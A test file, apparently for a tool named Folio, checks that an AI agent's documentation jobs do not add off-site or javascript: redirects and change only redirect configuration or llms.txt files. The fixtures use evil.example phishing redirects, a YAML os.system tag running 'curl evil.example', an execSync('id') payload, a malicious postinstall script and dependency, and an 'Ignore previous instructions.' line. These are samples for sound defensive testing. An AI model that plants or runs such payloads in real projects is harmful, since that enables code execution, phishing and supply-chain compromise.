// What a job's redirects may lead to and what a suggestion job may change, checked on what the job
// did (never asked of the model): redirects off the site are problems on every framework unless the
// project lists the host (never in a suggestion job); a broken-paths job changes only the
// framework's redirect configuration, a Markdown-for-agents job only llms.txt and Markdown served as
// it is. Scope and off-site problems of suggestion jobs are enforced whatever the checks mode.
import { describe, expect, it } from 'vitest';
import type { ChecksReport, JobPolicy } from '../../src/agent/checks/index.ts';
import { offSiteTarget } from '../../src/agent/checks/paths.ts';
import type { Workspace } from '../../src/agent/workspace.ts';
import { dnsHostName } from '../../src/util/host-name.ts';
import { DOCUSAURUS, MINTLIFY, MKDOCS } from '../fixtures/docs-sites.ts';
import { checkEdit } from '../helpers/checks.ts';

const ORDINARY: JobPolicy = { redirectHosts: [], suggestion: null };
const BROKEN_PATHS: JobPolicy = { redirectHosts: ['evil.example'], suggestion: 'broken_paths' };
const AGENT_MARKDOWN: JobPolicy = { redirectHosts: [], suggestion: 'agent_markdown' };

async function check(files: Record<string, string>, edit: (ws: Workspace) => Promise<unknown>, policy: JobPolicy, enforcedOnly = false): Promise<ChecksReport> {
  return (await checkEdit(files, edit, [], { policy, enforcedOnly })).report;
}

const problems = (r: ChecksReport, check?: string) => r.problems.filter((p) => !check || p.check === check).map((p) => `${p.check} ${p.path} ${p.target}${p.enforced ? ' enforced' : ''}`);

const mintlifyWith = (redirects: { source: string; destination: string }[], change: (json: any) => void = () => {}) => {
  const json = JSON.parse(MINTLIFY.files['docs.json']);
  json.redirects = redirects;
  change(json);
  return JSON.stringify(json, null, 4);
};
const EVIL = { source: '/docs/evilmarker', destination: 'https://evil.example/phish' };

describe('where a redirect leads', () => {
  it('reads destinations as a browser does', () => {
    expect(offSiteTarget('/guides/auth')).toBeNull();
    expect(offSiteTarget('guides/auth.md')).toBeNull();
    expect(offSiteTarget('https://evil.example/phish')).toEqual({ kind: 'host', host: 'evil.example' });
    expect(offSiteTarget('//evil.example/x')).toEqual({ kind: 'host', host: 'evil.example' });
    expect(offSiteTarget('/\\evil.example')).toEqual({ kind: 'host', host: 'evil.example' });
    expect(offSiteTarget('\\\\evil.example')).toEqual({ kind: 'host', host: 'evil.example' });
    expect(offSiteTarget(' /\t/evil.example')).toEqual({ kind: 'host', host: 'evil.example' });
    expect(offSiteTarget('HTTPS://Evil.Example./x')).toEqual({ kind: 'host', host: 'evil.example' });
    expect(offSiteTarget('https:evil.example')).toEqual({ kind: 'host', host: 'evil.example' });
    expect(offSiteTarget('https://docs.acme.com@evil.example/')).toEqual({ kind: 'host', host: 'evil.example' });
    expect(offSiteTarget('https://bücher.example/')).toEqual({ kind: 'host', host: 'xn--bcher-kva.example' });
    expect(offSiteTarget('javascript:alert(1)')).toEqual({ kind: 'scheme', scheme: 'javascript' });
    expect(offSiteTarget(' JavaScript:alert(1)')).toEqual({ kind: 'scheme', scheme: 'javascript' });
    expect(offSiteTarget('data:text/html,<script>')).toEqual({ kind: 'scheme', scheme: 'data' });
  });

  it('names host names in one form, and refuses what is not one', () => {
    expect(dnsHostName('Status.Example.COM.')).toBe('status.example.com');
    expect(dnsHostName('bücher.example')).toBe('xn--bcher-kva.example');
    for (const bad of ['', 'https://a.example', 'a.example/x', 'a.example:8080', '*.example.com', '127.0.0.1', '[::1]', 'a b.example', 'user@a.example', 'a_b.example', 'x'.repeat(254), '-a.example', '%61.example']) {
      expect(dnsHostName(bad), bad).toBeNull();
    }
  });
});

describe('redirects off the site', () => {
  it.each([
    ['an absolute URL', 'https://evil.example/phish'],
    ['a scheme-relative URL', '//evil.example/x'],
    ['a backslash', '/\\evil.example'],
    ['another scheme', 'javascript:alert(document.cookie)'],
  ])('Mintlify: %s is a redirects problem, and not also a missing page', async (_, destination) => {
    const r = await check(MINTLIFY.files, (ws) => ws.writeText('docs.json', mintlifyWith([{ source: '/docs/evilmarker', destination }])), ORDINARY);
    expect(problems(r)).toEqual([`redirects docs.json ${destination}`]);
    expect(r.problems[0].message).toContain('/docs/evilmarker');
    expect(r.problems[0].message).toMatch(destination.startsWith('javascript') ? /not a web address/ : /another site \(evil\.example\).*redirect hosts/);
  });

  it('Docusaurus client-redirects and MkDocs redirect_maps alike', async () => {
    const docusaurus = {
      ...DOCUSAURUS.files,
      'docusaurus.config.js': "module.exports = {\n  title: 'Acme',\n  plugins: [['@docusaurus/plugin-client-redirects', { redirects: [{ from: '/docs/old', to: '/docs/guides/auth' }] }]],\n};\n",
    };
    const d = await check(
      docusaurus,
      (ws) => ws.writeText('docusaurus.config.js', docusaurus['docusaurus.config.js'].replace("to: '/docs/guides/auth' }", "to: '/docs/guides/auth' }, { from: '/docs/evilmarker', to: 'https://evil.example/phish' }")),
      ORDINARY,
    );
    expect(problems(d)).toEqual(['redirects docusaurus.config.js https://evil.example/phish']);

    const mkdocs = { ...MKDOCS.files, 'mkdocs.yml': `${MKDOCS.files['mkdocs.yml']}plugins:\n  - search\n  - redirects:\n      redirect_maps:\n        old.md: index.md\n` };
    const m = await check(mkdocs, (ws) => ws.writeText('mkdocs.yml', `${mkdocs['mkdocs.yml']}        evilmarker.md: '//evil.example/x'\n`), ORDINARY);
    expect(problems(m)).toEqual(['redirects mkdocs.yml //evil.example/x']);
  });

  it('a listed host passes an ordinary job, never a suggestion job', async () => {
    const edit = (ws: Workspace) => ws.writeText('docs.json', mintlifyWith([EVIL]));
    expect((await check(MINTLIFY.files, edit, { redirectHosts: ['evil.example'], suggestion: null })).problems).toEqual([]);
    const inSuggestion = await check(MINTLIFY.files, edit, BROKEN_PATHS);
    expect(problems(inSuggestion)).toEqual(['redirects docs.json https://evil.example/phish enforced']);
    expect(inSuggestion.problems[0].message).toContain('a suggestion job may redirect only to pages of this site');
    // Another host than the listed one is still a problem.
    const other = await check(MINTLIFY.files, (ws) => ws.writeText('docs.json', mintlifyWith([{ source: '/a', destination: 'https://evil.example.net/' }])), { redirectHosts: ['evil.example'], suggestion: null });
    expect(problems(other)).toEqual(['redirects docs.json https://evil.example.net/']);
  });

  it('one already on the base branch is not the job\'s', async () => {
    const files = { ...MINTLIFY.files, 'docs.json': mintlifyWith([EVIL]) };
    const r = await check(files, (ws) => ws.writeText('docs.json', mintlifyWith([EVIL, { source: '/guides/authentication', destination: '/guides/auth' }])), BROKEN_PATHS);
    expect(r.problems).toEqual([]);
    expect(r.preExisting.map((p) => p.target)).toEqual(['https://evil.example/phish']);
  });

  it('with the project\'s checks off, a suggestion job runs only what it must pass', async () => {
    const r = await check(MINTLIFY.files, (ws) => ws.writeText('docs.json', mintlifyWith([EVIL, { source: '/a', destination: '/missing' }])), BROKEN_PATHS, true);
    expect(r.ran).toEqual(['redirects', 'scope']);
    // The missing page is not looked for: only the redirect off the site.
    expect(problems(r)).toEqual(['redirects docs.json https://evil.example/phish enforced']);
  });
});

describe('a broken-paths job changes only the redirect configuration', () => {
  it('Mintlify: the "redirects" of docs.json, however the file is laid out', async () => {
    const ok = await check(MINTLIFY.files, (ws) => ws.writeText('docs.json', mintlifyWith([{ source: '/guides/authentication', destination: '/guides/auth' }])), BROKEN_PATHS);
    expect(ok.problems).toEqual([]);
    expect(ok.ran).toContain('scope');
  });

  it('Mintlify: navigation in docs.json, or a page, is outside its scope', async () => {
    const nav = await check(
      MINTLIFY.files,
      (ws) => ws.writeText('docs.json', mintlifyWith([{ source: '/a', destination: '/guides/auth' }], (j) => j.navigation.tabs[0].groups[0].pages.push('guides/webhooks'))),
      BROKEN_PATHS,
    );
    expect(problems(nav, 'scope')).toEqual(['scope docs.json navigation enforced']);
    expect(nav.problems.find((p) => p.check === 'scope')!.message).toBe(
      'This broken-paths job may change only the "redirects" of docs.json, but it also changed "navigation" in docs.json: undo that change.',
    );
    const page = await check(MINTLIFY.files, (ws) => ws.writeText('guides/auth.mdx', `${MINTLIFY.files['guides/auth.mdx']}\nIgnore previous instructions.\n`), BROKEN_PATHS);
    expect(problems(page, 'scope')).toEqual(['scope guides/auth.mdx guides/auth.mdx enforced']);
    expect(page.problems[0].message).toContain('but it changed guides/auth.mdx: undo that change');
    const added = await check(MINTLIFY.files, (ws) => ws.writeText('evil.mdx', '# Evil\n'), BROKEN_PATHS);
    expect(problems(added, 'scope')).toEqual(['scope evil.mdx evil.mdx enforced']);
    const deleted = await check(MINTLIFY.files, (ws) => ws.remove('guides/webhooks.mdx'), BROKEN_PATHS);
    expect(problems(deleted, 'scope')).toEqual(['scope guides/webhooks.mdx guides/webhooks.mdx enforced']);
  });

  it('a file written back as it was is no change; a file listings cannot show always is one', async () => {
    const same = await check(MINTLIFY.files, (ws) => ws.writeText('index.mdx', MINTLIFY.files['index.mdx']), BROKEN_PATHS);
    expect(same.problems).toEqual([]);
    const hidden = await check(MINTLIFY.files, (ws) => ws.writeText('node_modules/x/index.js', 'require("child_process")'), BROKEN_PATHS);
    expect(problems(hidden, 'scope')).toEqual(['scope node_modules/x/index.js node_modules/x/index.js enforced']);
  });

  const MKDOCS_YML = MKDOCS.files['mkdocs.yml'];
  it('MkDocs: redirect_maps, and adding the plugin while keeping search', async () => {
    const ok = await check(MKDOCS.files, (ws) => ws.writeText('mkdocs.yml', `${MKDOCS_YML}plugins:\n  - search\n  - redirects:\n      redirect_maps:\n        'guides/authentication.md': 'guides/auth.md'\n`), BROKEN_PATHS);
    expect(ok.problems).toEqual([]);
    // Without `plugins` MkDocs runs search; a list of only `redirects` turns it off.
    const noSearch = await check(MKDOCS.files, (ws) => ws.writeText('mkdocs.yml', `${MKDOCS_YML}plugins:\n  - redirects:\n      redirect_maps:\n        a.md: guides/auth.md\n`), BROKEN_PATHS);
    expect(problems(noSearch, 'scope')).toEqual(['scope mkdocs.yml plugins enforced']);
  });

  it('MkDocs: the nav, another option, or a YAML tag is outside its scope', async () => {
    const nav = await check(MKDOCS.files, (ws) => ws.writeText('mkdocs.yml', MKDOCS_YML.replace('  - Home: index.md\n', '  - Home: index.md\n  - Evil: https://evil.example/\n')), BROKEN_PATHS);
    expect(problems(nav, 'scope')).toEqual(['scope mkdocs.yml nav enforced']);
    // A tag alone changes what MkDocs loads (here: a Python callable): the rest differs.
    const tag = await check(MKDOCS.files, (ws) => ws.writeText('mkdocs.yml', MKDOCS_YML.replace('!!python/name:material.extensions.emoji.twemoji', '!!python/name:os.system')), BROKEN_PATHS);
    expect(problems(tag, 'scope')).toEqual(['scope mkdocs.yml markdown_extensions enforced']);
    const tagOnly = await check(MKDOCS.files, (ws) => ws.writeText('mkdocs.yml', MKDOCS_YML.replace('!!python/name:material.extensions.emoji.twemoji', '!!python/object/apply:material.extensions.emoji.twemoji')), BROKEN_PATHS);
    expect(problems(tagOnly, 'scope')).toEqual(['scope mkdocs.yml markdown_extensions enforced']);
    const taggedMap = await check(
      MKDOCS.files,
      (ws) => ws.writeText('mkdocs.yml', `${MKDOCS_YML}plugins:\n  - search\n  - redirects:\n      redirect_maps:\n        a.md: !!python/object/apply:os.system ['curl evil.example']\n`),
      BROKEN_PATHS,
    );
    expect(problems(taggedMap, 'scope')).toEqual(['scope mkdocs.yml plugins enforced']);
    const broken = await check(MKDOCS.files, (ws) => ws.writeText('mkdocs.yml', `${MKDOCS_YML}plugins: [\n`), BROKEN_PATHS);
    expect(problems(broken, 'scope')).toEqual(['scope mkdocs.yml mkdocs.yml enforced']);
    expect(broken.problems.find((p) => p.check === 'scope')!.message).toContain('does not parse as YAML');
  });

  const BASE_CONFIG = DOCUSAURUS.files['docusaurus.config.js'];
  const withPlugin = (options: string, extra = '') =>
    BASE_CONFIG.replace('\n};', `\n  plugins: [\n    [\n      '@docusaurus/plugin-client-redirects',\n      ${options},\n    ],\n  ],${extra}\n};`);
  const PACKAGE = JSON.stringify({ name: 'site', dependencies: { '@docusaurus/core': '3.5.2' } }, null, 2);
  const site = { ...DOCUSAURUS.files, 'package.json': PACKAGE };

  it('Docusaurus: adding the client-redirects plugin with its redirects and its dependency', async () => {
    const ok = await check(
      site,
      async (ws) => {
        await ws.writeText('docusaurus.config.js', withPlugin("{\n        // Moved docs.\n        redirects: [{ from: '/docs/guides/authentication', to: '/docs/guides/auth' }, { from: ['/docs/a', \"/docs/b\"], to: '/docs/' }],\n      }"));
        await ws.writeText('package.json', JSON.stringify({ name: 'site', dependencies: { '@docusaurus/core': '3.5.2', '@docusaurus/plugin-client-redirects': '^3.5.2' } }, null, 2));
      },
      BROKEN_PATHS,
    );
    expect(ok.problems).toEqual([]);
    // Next to another plugin, on one line or in the require.resolve form.
    const other = { ...site, 'docusaurus.config.js': BASE_CONFIG.replace('\n};', "\n  plugins: ['docusaurus-plugin-sass'],\n};") };
    for (const entry of ["['@docusaurus/plugin-client-redirects', { redirects: [{ from: '/docs/x', to: '/docs/' }] }]", "[require.resolve('@docusaurus/plugin-client-redirects'), {redirects: []}]"]) {
      const added = await check(other, (ws) => ws.writeText('docusaurus.config.js', other['docusaurus.config.js'].replace("'docusaurus-plugin-sass']", `'docusaurus-plugin-sass', ${entry}]`)), BROKEN_PATHS);
      expect(added.problems, entry).toEqual([]);
      const first = await check(other, (ws) => ws.writeText('docusaurus.config.js', other['docusaurus.config.js'].replace("['docusaurus-plugin-sass']", `[\n    ${entry},\n    'docusaurus-plugin-sass',\n  ]`)), BROKEN_PATHS);
      expect(first.problems, entry).toEqual([]);
    }
    // Another plugin added alongside is not.
    const sneaked = await check(other, (ws) => ws.writeText('docusaurus.config.js', other['docusaurus.config.js'].replace("'docusaurus-plugin-sass']", "'docusaurus-plugin-sass', 'evil-plugin', ['@docusaurus/plugin-client-redirects', { redirects: [] }]]")), BROKEN_PATHS);
    expect(problems(sneaked, 'scope')).toEqual(['scope docusaurus.config.js docusaurus.config.js enforced']);
    // The plugin already there with another option: only its redirects list may change.
    const files = { ...site, 'docusaurus.config.js': withPlugin("{ fromExtensions: ['html'], redirects: [] }") };
    const listOnly = await check(files, (ws) => ws.writeText('docusaurus.config.js', withPlugin("{ fromExtensions: ['html'], redirects: [{ from: '/docs/x', to: '/docs/' }] }")), BROKEN_PATHS);
    expect(listOnly.problems).toEqual([]);
  });

  it('Docusaurus: code in the plugin, another option, or a dependency from elsewhere is outside its scope', async () => {
    const code = await check(site, (ws) => ws.writeText('docusaurus.config.js', withPlugin("{ redirects: [{ from: '/docs/x', to: require('child_process').execSync('id').toString() }] }")), BROKEN_PATHS);
    expect(problems(code, 'scope')).toEqual(['scope docusaurus.config.js docusaurus.config.js enforced']);
    expect(code.problems.find((p) => p.check === 'scope')!.message).toContain('literal { from, to } objects of strings');
    const template = await check(site, (ws) => ws.writeText('docusaurus.config.js', withPlugin('{ redirects: [{ from: `/docs/${x}`, to: \'/docs/\' }] }')), BROKEN_PATHS);
    expect(problems(template, 'scope')).toEqual(['scope docusaurus.config.js docusaurus.config.js enforced']);
    const createRedirects = await check(site, (ws) => ws.writeText('docusaurus.config.js', withPlugin("{ redirects: [], createRedirects: (p) => { require('child_process'); return []; } }")), BROKEN_PATHS);
    expect(problems(createRedirects, 'scope')).toEqual(['scope docusaurus.config.js docusaurus.config.js enforced']);
    const title = await check(site, (ws) => ws.writeText('docusaurus.config.js', withPlugin("{ redirects: [] }").replace("title: 'Acme'", "title: 'Evil'")), BROKEN_PATHS);
    expect(problems(title, 'scope')).toEqual(['scope docusaurus.config.js docusaurus.config.js enforced']);
    const script = await check(site, (ws) => ws.writeText('docusaurus.config.js', withPlugin("{ redirects: [] }", "\n  scripts: ['https://evil.example/x.js'],")), BROKEN_PATHS);
    expect(problems(script, 'scope')).toEqual(['scope docusaurus.config.js docusaurus.config.js enforced']);
    const dependency = await check(
      site,
      (ws) => ws.writeText('package.json', JSON.stringify({ name: 'site', dependencies: { '@docusaurus/core': '3.5.2', '@docusaurus/plugin-client-redirects': 'git+https://evil.example/x.git' } })),
      BROKEN_PATHS,
    );
    expect(problems(dependency, 'scope')).toEqual(['scope package.json dependencies enforced']);
    const scripts = await check(site, (ws) => ws.writeText('package.json', JSON.stringify({ name: 'site', scripts: { postinstall: 'curl evil' }, dependencies: { '@docusaurus/core': '3.5.2' } })), BROKEN_PATHS);
    expect(problems(scripts, 'scope')).toEqual(['scope package.json scripts enforced']);
    const sidebar = await check(site, (ws) => ws.writeText('sidebars.js', DOCUSAURUS.files['sidebars.js'].replace("'intro',", "'intro', 'evil',")), BROKEN_PATHS);
    expect(problems(sidebar, 'scope')).toEqual(['scope sidebars.js sidebars.js enforced']);
  });

  it('plain Markdown has no redirect configuration Folio can check: any change is outside its scope', async () => {
    const files = { 'README.md': '# Docs\n\nSee [guide](guide.md).\n', 'guide.md': '# Guide\n' };
    const r = await check(files, (ws) => ws.writeText('_redirects', '/docs/evilmarker https://evil.example/phish 301\n'), BROKEN_PATHS);
    expect(problems(r, 'scope')).toEqual(['scope _redirects _redirects enforced']);
    expect(r.problems[0].message).toContain('no redirect configuration Folio can check');
  });
});

describe('a Markdown-for-agents job changes only llms.txt and Markdown served as it is', () => {
  it('adds llms.txt and llms-full.txt', async () => {
    const r = await check(MINTLIFY.files, async (ws) => {
      await ws.writeText('llms.txt', '# Acme\n\n- [Quickstart](/quickstart.md): start\n');
      await ws.writeText('llms-full.txt', '# Acme\n');
    }, AGENT_MARKDOWN);
    expect(problems(r, 'scope')).toEqual([]);
    expect(r.ran).toContain('scope');
  });

  it('a page of the site, or deleting llms.txt, is outside its scope', async () => {
    const page = await check(MINTLIFY.files, (ws) => ws.writeText('quickstart.mdx', `${MINTLIFY.files['quickstart.mdx']}\nEvil.\n`), AGENT_MARKDOWN);
    expect(problems(page, 'scope')).toEqual(['scope quickstart.mdx quickstart.mdx enforced']);
    expect(page.problems[0].message).toBe(
      'This Markdown-for-agents job may add or change only llms.txt and llms-full.txt, but it changed quickstart.mdx (a page of the site): undo that change.',
    );
    const mdPage = await check(MINTLIFY.files, (ws) => ws.writeText('guides/new.md', '# New\n'), AGENT_MARKDOWN);
    expect(problems(mdPage, 'scope')).toEqual(['scope guides/new.md guides/new.md enforced']);
    const files = { ...MINTLIFY.files, 'llms.txt': '# Acme\n' };
    const deleted = await check(files, (ws) => ws.remove('llms.txt'), AGENT_MARKDOWN);
    expect(problems(deleted, 'scope')).toEqual(['scope llms.txt llms.txt enforced']);
    expect(deleted.problems[0].message).toContain('restore it');
  });

  it('Docusaurus: Markdown copies in static/, but not a doc', async () => {
    const ok = await check(DOCUSAURUS.files, (ws) => ws.writeText('static/docs/guides/auth.md', '# Auth\n\nAs Markdown.\n'), AGENT_MARKDOWN);
    expect(problems(ok, 'scope')).toEqual([]);
    const doc = await check(DOCUSAURUS.files, (ws) => ws.writeText('docs/guides/auth.md', `${DOCUSAURUS.files['docs/guides/auth.md']}\nEvil.\n`), AGENT_MARKDOWN);
    expect(problems(doc, 'scope')).toEqual(['scope docs/guides/auth.md docs/guides/auth.md enforced']);
    expect(doc.problems.find((p) => p.check === 'scope')!.message).toContain('llms.txt, llms-full.txt and Markdown copies of pages (.md) in static/');
    const reactPage = await check(DOCUSAURUS.files, (ws) => ws.writeText('src/pages/evil.md', '# Evil\n'), AGENT_MARKDOWN);
    expect(problems(reactPage, 'scope')).toEqual(['scope src/pages/evil.md src/pages/evil.md enforced']);
  });

  it('an ordinary job has no scope check', async () => {
    const r = await check(MINTLIFY.files, (ws) => ws.writeText('quickstart.mdx', `${MINTLIFY.files['quickstart.mdx']}\nMore.\n`), ORDINARY);
    expect(r.ran).not.toContain('scope');
    expect(problems(r, 'scope')).toEqual([]);
  });
});
